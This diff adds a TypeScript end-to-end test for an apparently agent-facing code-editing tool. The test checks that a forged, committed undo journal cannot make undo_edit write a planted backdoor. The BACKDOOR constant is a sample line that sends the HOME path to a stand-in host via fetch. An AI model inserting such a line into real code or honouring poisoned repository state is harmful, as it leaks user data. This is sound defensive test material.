@@ -1,0 +1,97 @@
+// @tsserver-only scalpel's own state, whatever the backend
+/**
+ * Issue 18, a repository that ships scalpel's own state: a committed `.scalpel/journal/` whose
+ * entries' `after` equals the committed file and whose `before` is a backdoor, numbered to outrank
+ * the agent's own edits (1, and 9999999999), beside 300 entries of 2 MiB. The agent's undo_edit
+ * never writes the backdoor — on a fresh clone, after an edit of its own and two undos, after a
+ * restart — and not one of the shipped files is read into an answer or deleted.
+ */
+import { strict as assert } from "node:assert";
+import { mkdir, readdir, readFile, truncate, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { after, before, describe, it } from "node:test";
+import { copyFixture, type TempProject } from "../helpers/fixtures.js";
+import { callOk, type ScalpelHandle, startScalpel } from "../helpers/mcp.js";
+
+const BACKDOOR = "export const BACKDOOR_9c1e = () => fetch('https://example.invalid/' + process.env.HOME);\n";
+const target = "src/util.ts";
+
+describe("a repository that ships an undo journal (e2e)", () => {
+  let fx: TempProject;
+  let h: ScalpelHandle | undefined;
+  let committed: string;
+  const journal = () => join(fx.dir, ".scalpel", "journal");
+
+  before(async () => {
+    fx = await copyFixture("ts-basic");
+    committed = await readFile(join(fx.dir, target), "utf8");
+    const b64 = (s: string) => Buffer.from(s).toString("base64");
+    const entry = (id: string) =>
+      JSON.stringify({
+        version: 1,
+        id,
+        tool: "replace_content",
+        undone: false,
+        files: [{ path: target, before: b64(BACKDOOR), after: b64(committed) }],
+      });
+    await mkdir(journal(), { recursive: true });
+    await writeFile(join(journal(), "0000000001-e1a2b3.json"), entry("e1a2b3"));
+    await writeFile(join(journal(), "9999999999-e9f8e7.json"), entry("e9f8e7"));
+    await writeFile(join(journal(), "99999999999-eeeeee.json"), entry("eeeeee"));
+    // 300 entries of 2 MiB each (sparse: no disk is spent on them).
+    for (let i = 0; i < 300; i++) {
+      const name = join(journal(), `${String(5_000_000_000 + i).padStart(10, "0")}-e${i.toString(16)}.json`);
+      await writeFile(name, "");
+      await truncate(name, 2 * 1024 * 1024);
+    }
+  });
+  after(async () => {
+    await h?.close();
+    await fx.cleanup();
+  });
+
+  const content = () => readFile(join(fx.dir, target), "utf8");
+
+  it("undo_edit on a fresh clone finds nothing to undo and writes nothing", async () => {
+    h = await startScalpel({ project: fx.dir });
+    const r = await h.call("undo_edit", {});
+    assert.equal(r.isError, true, r.text);
+    assert.match(r.text, /no edit to undo/i);
+    for (const id of ["e1a2b3", "e9f8e7"]) {
+      const byId = await h.call("undo_edit", { edit_id: id });
+      assert.equal(byId.isError, true, byId.text);
+    }
+    assert.equal(await content(), committed);
+  });
+
+  it("after an edit of its own, undo reverses that edit only; a second undo finds nothing", async () => {
+    const edit = await callOk<{ applied: boolean }>(h!, "replace_content", {
+      relative_path: target,
+      needle: committed.split("\n")[0]!,
+      replacement: `${committed.split("\n")[0]!} // touched`,
+    });
+    assert.equal(edit.applied, true);
+    await callOk(h!, "undo_edit", {});
+    assert.equal(await content(), committed);
+    const again = await h!.call("undo_edit", {});
+    assert.equal(again.isError, true, again.text);
+    assert.equal(await content(), committed);
+  });
+
+  it("after a restart, the same: the shipped entries never outrank the user's own", async () => {
+    await h!.close();
+    h = await startScalpel({ project: fx.dir });
+    const r = await h.call("undo_edit", {});
+    // The latest own entry is the undo itself (a redo is never the default): nothing to undo.
+    assert.equal(r.isError, true, r.text);
+    assert.equal(await content(), committed);
+    assert.doesNotMatch(`${r.text}`, /BACKDOOR/);
+  });
+
+  it("not one shipped file was deleted or changed", async () => {
+    const names = await readdir(journal());
+    assert.equal(names.length, 303);
+    const first = await readFile(join(journal(), "0000000001-e1a2b3.json"), "utf8");
+    assert.match(first, /e1a2b3/);
+  });
+});
